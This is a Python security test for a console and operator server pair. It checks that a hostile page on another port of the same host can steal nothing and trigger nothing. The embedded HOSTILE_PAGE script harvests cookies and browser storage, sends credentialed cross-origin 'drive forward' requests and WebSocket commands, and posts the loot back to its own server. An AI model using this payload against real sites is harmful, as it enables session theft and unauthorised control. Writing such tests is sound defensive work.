"""A hostile server on another port of the same host, in a browser that has console and operator page open.

Browsers send a host's cookies to all of its ports. Whatever the other server gets to see, or a page of it can
read or have done, is tried at both of our servers: it must open nothing.
"""

from __future__ import annotations

import asyncio
import json
import re
from collections.abc import AsyncIterator, Iterable
from contextlib import asynccontextmanager, suppress
from pathlib import Path
from typing import Any

import aiohttp
import pytest
from aiohttp import web
from playwright.async_api import Page, expect

from framework.loop_lag import LoopLag
from resources.console.server import ConsoleServer
from tests.resources.console.browser import SHUTTER, chromium
from tests.resources.console.scripted import ScriptedBackend
from tests.resources.operator.page_station import CONNECTED, DEADLINE_S, Station, station

pytestmark = pytest.mark.real

SHORTEST_SECRET = 8
"""What is shorter can be guessed without having been told."""

ANSWER_WITHIN_S = 1.0

_BETWEEN = re.compile(r"""[\s;,=&?#/"'{}\[\]\\:]+""")

#: What a script of the hostile page can read, and what it can have the browser do in its user's name.
HOSTILE_PAGE = """<!doctype html><title>Pictures of cats</title><body><script type="module">
const ours = %s;
const told = [document.cookie, document.referrer, window.name, JSON.stringify(localStorage),
  JSON.stringify(sessionStorage)];
const within = (promise) => Promise.race([promise, new Promise((done) => setTimeout(done, 1000, "late"))]);
const socket = (url) => new Promise((done) => {
  const way = new WebSocket(url);
  way.onopen = () => way.send(JSON.stringify({type: "say", id: "1", text: "drive forward"}));
  way.onmessage = ({data}) => { told.push(String(data)); };
  way.onclose = done;
});
for (const url of ours) {
  const frame = document.createElement("iframe");
  frame.src = url;
  document.body.append(frame);
  await within(new Promise((done) => { frame.onload = done; }));
  try {
    told.push(frame.contentDocument.cookie, JSON.stringify(frame.contentWindow.localStorage));
  } catch {}
  for (const path of ["api/say", "api/stop", "stop", "pair", "api/session"]) {
    for (const mode of ["cors", "no-cors"]) {
      try {
        const answer = await within(fetch(url + path, {method: "POST", mode, credentials: "include",
          body: JSON.stringify({text: "drive forward"})}));
        told.push(await answer.text());
      } catch {}
    }
  }
  for (const path of ["ws", "link"]) await within(socket(url.replace("http", "ws") + path));
}
await fetch("/loot?said=" + encodeURIComponent(told[0]), {method: "POST", body: JSON.stringify(told)});
document.title = "done";
</script>"""


class Hostile:
    """Keeps all that it is sent."""

    def __init__(self) -> None:
        self.cookies: set[str] = set()
        self.texts: list[str] = []
        self.url = ""
        self._ours: list[str] = []

    def secrets(self) -> list[str]:
        """Every part of what it was sent that might be one."""
        pieces = (each for text in self.texts for each in (text, *_BETWEEN.split(text)))
        parts = {each for each in pieces if each.isprintable()}
        return sorted(part for part in parts if SHORTEST_SECRET <= len(part) <= 300)

    @asynccontextmanager
    async def serving(self, ours: list[str]) -> AsyncIterator[None]:
        self._ours = ours
        application = web.Application()
        application.add_routes([web.route("*", "/{path:.*}", self._serve)])
        runner = web.AppRunner(application)
        await runner.setup()
        site = web.TCPSite(runner, "127.0.0.1", 0)
        await site.start()
        self.url = f"http://127.0.0.1:{runner.addresses[0][1]}/"
        try:
            yield
        finally:
            await runner.cleanup()

    async def _serve(self, request: web.Request) -> web.Response:
        self.cookies.add(request.headers.get("Cookie", ""))
        self.texts += [request.raw_path, await request.text(), *request.headers.values()]
        self.texts += request.cookies.values()
        return web.Response(text=HOSTILE_PAGE % json.dumps(self._ours), content_type="text/html")


async def visited_by(page: Page, hostile: Hostile) -> None:
    await page.goto(hostile.url)
    await expect(page).to_have_title("done")


async def words_of(client: aiohttp.ClientSession, url: str, headers: dict[str, str], first: object) -> str:
    """What a WebSocket tells whoever brings this."""
    try:
        async with asyncio.timeout(ANSWER_WITHIN_S), client.ws_connect(url, headers=headers) as socket:
            await socket.send_json(first)
            frame = await socket.receive()
            return frame.data if frame.type is aiohttp.WSMsgType.TEXT else ""
    except (TimeoutError, aiohttp.ClientError):
        return ""


def as_keys(hostile: Hostile, origin: str) -> Iterable[dict[str, str]]:
    """Headers with everything that it has got, in every place where a key could be."""
    mine = {"Origin": origin}
    for cookie in hostile.cookies:
        yield {"Cookie": cookie, **mine}
    for secret in hostile.secrets():
        with suppress(UnicodeEncodeError):
            secret.encode("latin-1")
            yield {"Authorization": f"Bearer {secret}", **mine}


async def opens_console(client: aiohttp.ClientSession, console: ConsoleServer, hostile: Hostile) -> list[Any]:
    """What it has got at the console by what it knows."""
    got: list[Any] = []
    address = console.address
    for key in as_keys(hostile, address.rstrip("/")):
        for method, path in (("POST", "api/say"), ("GET", "api/status"), ("POST", "api/stop")):
            async with client.request(method, address + path, headers=key, json={"text": "drive"}) as answer:
                if answer.status < 400:
                    got.append((path, key))
        secret = key.get("Authorization", "").removeprefix("Bearer ")
        said = await words_of(client, f"{address}ws", key, {"type": "sign_in", "secret": secret})
        if said:
            got.append(("ws", key, said))
    return got


async def opens_operators(client: aiohttp.ClientSession, here: Station, hostile: Hostile) -> list[Any]:
    """What it has got at the operators' server."""
    got: list[Any] = []
    address = here.server.address
    for key in as_keys(hostile, address.rstrip("/")):
        here.ahead_s += 3.0  # so that none is refused for coming too soon after another
        secret = key.get("Authorization", "").removeprefix("Bearer ")
        for method, path in (("GET", "pair"), ("POST", "stop"), ("POST", "pair")):
            wish = {"token": secret[:200], "kind": "desk"}
            async with client.request(method, address + path, headers=key, json=wish) as answer:
                if answer.status < 400:
                    got.append((path, key))
        for path in ("link", "ws"):
            said = await words_of(client, f"{address}{path}", key, {"type": "sign_in", "secret": secret})
            if said and json.loads(said)["type"] != "refused":
                got.append((path, key, said))
    return got


async def _story(folder: Path) -> None:
    backend, hostile = ScriptedBackend(), Hostile()
    async with (
        asyncio.timeout(DEADLINE_S),
        station(folder) as here,
        ConsoleServer(backend, port=0, lag=LoopLag()) as console,
        hostile.serving([console.address, here.server.address]),
        chromium() as browser,
        aiohttp.ClientSession() as client,
    ):
        here.server.let_in_by(console.token)
        context = await browser.new_context()
        await context.add_init_script("globalThis.dark = true;" + SHUTTER)
        desk = await context.new_page()
        await desk.goto(console.url)
        await expect(desk.get_by_text("Connected")).to_be_visible()
        operator = await context.new_page()
        await operator.goto(here.url)
        await operator.locator(CONNECTED).wait_for()
        link = here.link

        stranger = await context.new_page()
        await visited_by(stranger, hostile)
        await visited_by(desk, hostile)  # the very tab of the console
        assert hostile.texts
        assert await opens_console(client, console, hostile) == []
        assert await opens_operators(client, here, hostile) == []
        assert hostile.cookies == {""}, "nothing of ours is sent to other ports"
        assert await context.cookies() == []
        assert backend.asked == []
        assert not here.stop.is_latched
        assert here.link is link

        # And whoever is in comes back without a code.
        await desk.go_back()
        await expect(desk.get_by_text("Connected")).to_be_visible()
        assert "token" not in desk.url
        await operator.reload()
        await operator.locator(CONNECTED).wait_for()
        await context.close()


def test_what_it_gets_opens_nothing(tmp_path: Path) -> None:
    asyncio.run(_story(tmp_path))
